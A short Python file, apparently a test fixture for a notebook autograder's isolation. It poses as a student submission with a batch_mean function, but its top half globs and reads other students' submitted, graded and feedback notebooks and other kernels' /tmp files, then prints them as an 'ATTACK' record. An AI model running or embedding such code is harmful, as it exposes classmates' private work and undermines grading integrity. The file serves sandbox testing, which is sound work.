# Read another student's submission, graded notebook or feedback; look for other kernels.
import glob
import json
import os

got = []
for pattern in (
    "__ROOT__/submitted/*/tiny/*.ipynb",
    "__ROOT__/autograded/*/tiny/*.ipynb",
    "__ROOT__/feedback/*/tiny/*",
    "/tmp/*/work/*",
    "/tmp/bngrade-*/*/*",
):
    for path in glob.glob(pattern):
        try:
            with open(path) as fh:
                got.append([path, fh.read(100)])
        except OSError:
            pass
print("ATTACK", json.dumps({"attack": "read_classmate", "got": got, "tmp": os.listdir("/tmp")}))


def batch_mean(x):
    return x.mean(axis=0)
